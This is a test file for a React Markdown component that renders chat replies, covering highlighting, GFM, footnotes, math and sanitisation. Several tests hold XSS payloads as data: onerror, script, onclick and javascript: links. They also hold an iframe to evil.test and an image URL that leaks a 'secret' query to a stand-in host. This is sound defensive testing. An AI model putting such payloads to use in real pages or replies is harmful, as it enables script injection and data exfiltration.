// @vitest-environment happy-dom
import { cleanup, render, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

afterEach(cleanup);

describe('Markdown', () => {
  it('renders code fences with highlighting and a copy button', async () => {
    const { container, getByRole } = render(<Markdown source={'Try this:\n\n```python\n# comment\ndef f(x):\n    return "hi" + 1\n```\n'} />);
    const code = container.querySelector('pre code')!;
    expect(code.textContent).toBe('# comment\ndef f(x):\n    return "hi" + 1');
    expect(container.querySelector('.code-lang')?.textContent).toBe('python');
    expect(getByRole('button', { name: 'Copy code' })).toBeTruthy();
    // The grammars arrive in their own chunk; the code is shown plain until then.
    await waitFor(() => expect(container.querySelector('.hljs-comment')?.textContent).toBe('# comment'));
    expect(container.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(container.querySelector('.hljs-string')?.textContent).toBe('"hi"');
    expect(code.textContent).toBe('# comment\ndef f(x):\n    return "hi" + 1');
    expect(container.querySelector('[style]')).toBeNull();
  });

  it('leaves a language it does not know as plain text, every character kept', async () => {
    const source = 'const x = `a${1}` // done\nlet y = 0x1F;';
    const { container } = render(<Markdown source={`\`\`\`klingon\n${source}\n\`\`\`\n\n\`\`\`ts\n${source}\n\`\`\``} />);
    await waitFor(() => expect(container.querySelector('.hljs-keyword')).not.toBeNull());
    const [klingon, ts] = [...container.querySelectorAll('pre code')];
    expect(klingon!.textContent).toBe(source);
    expect(klingon!.querySelector('span')).toBeNull();
    expect(ts!.textContent).toBe(source);
  });

  it('never turns reply text into HTML', () => {
    const source = [
      '<img src=x onerror="alert(1)"> and <script>alert(2)</script> **bold**',
      '',
      '<div onclick="alert(3)">',
      '<iframe src="https://evil.test"></iframe>',
      '</div>',
      '',
      '<a href="javascript:alert(4)">click</a>',
    ].join('\n');
    const { container } = render(<Markdown source={source} />);
    for (const tag of ['img', 'script', 'iframe', 'div[onclick]', 'a']) expect(container.querySelector(tag)).toBeNull();
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(container.textContent).toContain('<iframe src="https://evil.test"></iframe>');
    expect(container.textContent).toContain('<a href="javascript:alert(4)">click</a>');
    expect(container.querySelector('strong')?.textContent).toBe('bold');
  });

  it('links only http(s) and mailto URLs, opening outside the app', () => {
    const { container } = render(
      <Markdown source={'[ok](https://example.com) [bad](javascript:alert(1)) [data](data:text/html,<b>x</b>) [file](/etc/passwd) [mail](mailto:a@b.test) see https://plano.dev/docs.'} />,
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com', 'mailto:a@b.test', 'https://plano.dev/docs']);
    expect(links[0]!.getAttribute('rel')).toContain('noreferrer');
    expect(links[0]!.getAttribute('target')).toBe('_blank');
    // A refused link keeps its text, so nothing the model said is lost.
    expect(container.textContent).toContain('bad');
    expect(container.textContent).toContain('file');
  });

  it('never loads an image: a web image becomes a link to it, anything else its description', () => {
    const { container } = render(<Markdown source={'![chart](https://evil.test/leak?q=secret) ![dot](data:image/png;base64,iVBORw0KGgo=) ![local](/favicon.svg)'} />);
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a.md-image')!;
    expect(link.getAttribute('href')).toBe('https://evil.test/leak?q=secret');
    expect(link.textContent).toBe('Image: chart');
    expect([...container.querySelectorAll('span.md-image')].map((s) => s.textContent)).toEqual(['Image: dot', 'Image: local']);
  });

  it('renders GFM: nested and task lists, headings, quotes, tables, strikethrough, footnotes', () => {
    const source = [
      '## Title',
      '',
      '- a',
      '  - nested *b*',
      '    1. deep',
      '- [x] done',
      '- [ ] todo',
      '',
      '> quoted',
      '',
      '| k | v |',
      '|---|---|',
      '| x | `1` |',
      '',
      '~~old~~ with a note[^n].',
      '',
      '[^n]: The note.',
    ].join('\n');
    const { container } = render(<Markdown source={source} />);
    expect(container.querySelector('h4')?.textContent).toBe('Title');
    expect(container.querySelector('ul ul em')?.textContent).toBe('b');
    expect(container.querySelector('ul ul ol li')?.textContent).toBe('deep');
    const boxes = [...container.querySelectorAll<HTMLInputElement>('input[type=checkbox]')];
    expect(boxes.map((b) => [b.checked, b.disabled])).toEqual([
      [true, true],
      [false, true],
    ]);
    expect(container.querySelector('blockquote')?.textContent?.trim()).toBe('quoted');
    expect(container.querySelector('.md-table-wrap td code')?.textContent).toBe('1');
    expect(container.querySelector('del')?.textContent).toBe('old');
    const ref = container.querySelector('sup a')!;
    const note = container.querySelector(`[id="${ref.getAttribute('href')!.slice(1)}"]`);
    expect(note?.textContent).toContain('The note.');
  });

  it('gives each message its own footnote ids', () => {
    const { container } = render(
      <>
        <Markdown source={'One[^1].\n\n[^1]: first'} />
        <Markdown source={'Two[^1].\n\n[^1]: second'} />
      </>,
    );
    const ids = [...container.querySelectorAll('[id]')].map((e) => e.id);
    expect(ids.length).toBeGreaterThan(2);
    expect(new Set(ids).size).toBe(ids.length);
    // Each reference is described by its own message's footnotes heading.
    for (const ref of container.querySelectorAll('[aria-describedby]')) expect(ids).toContain(ref.getAttribute('aria-describedby'));
  });

  it('typesets $$ math with KaTeX and leaves prices alone', async () => {
    const { container } = render(<Markdown source={'It costs $5 and $10.\n\nInline $$e^{i\\pi}+1=0$$ and:\n\n$$\n\\int_0^1 x\\,dx = \\tfrac12\n$$'} />);
    await waitFor(() => expect(container.querySelectorAll('.katex')).toHaveLength(2));
    expect(container.querySelector('math[display="block"]')).not.toBeNull();
    expect(container.textContent).toContain('It costs $5 and $10.');
    // MathML, with the TeX kept as its annotation (for copying, and for screen readers that want it).
    expect(container.querySelector('math annotation')?.textContent).toBe('e^{i\\pi}+1=0');
    expect(container.querySelector('[style]')).toBeNull();
  });

  it('shows an unclosed fence (mid-stream) as code up to the end', () => {
    const { container } = render(<Markdown source={'text\n```js\nconst a = 1;'} />);
    expect(container.querySelector('pre code')?.textContent).toBe('const a = 1;');
    expect(container.querySelector('.code-lang')?.textContent).toBe('js');
  });

  it('keeps snake_case words and escaped characters as text', () => {
    const { container } = render(<Markdown source={'call my_func_name and \\*not italic\\*'} />);
    expect(container.querySelector('em')).toBeNull();
    expect(container.textContent).toBe('call my_func_name and *not italic*');
  });
});
